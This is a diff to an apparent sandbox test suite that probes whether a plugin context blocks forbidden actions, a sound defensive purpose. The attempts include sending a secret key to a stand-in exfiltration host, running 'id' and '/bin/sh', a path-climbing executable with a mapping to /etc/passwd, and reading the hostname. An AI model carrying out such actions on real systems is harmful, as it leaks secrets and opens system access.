@@ -55,6 +55,12 @@ export default {
         await attempt("a secret in a request", async () =>
           answered(await ctx.fetch("https://exfiltration.example/", { secrets: ["PLUGIN_SECRET_KEY"] })),
         ),
+        await attempt("a command", async () => answered(await ctx.exec("id"))),
+        await attempt("a shell", async () => answered(await ctx.exec("/bin/sh", ["-c", "id"]))),
+        await attempt("a command by a path that climbs", async () =>
+          answered(await ctx.exec("/usr/bin/../bin/id", [], { files: { "../x": "/etc/passwd" } })),
+        ),
+        await attempt("the machine's name", async () => answered(await ctx.system.get("hostname"))),
         await attempt("a key of one megabyte", async () => answered(await ctx.kv.set("k".repeat(1_000_000), 1))),
         await attempt("a value of three megabytes", async () =>
           answered(await ctx.kv.set("big", "x".repeat(3_000_000))),
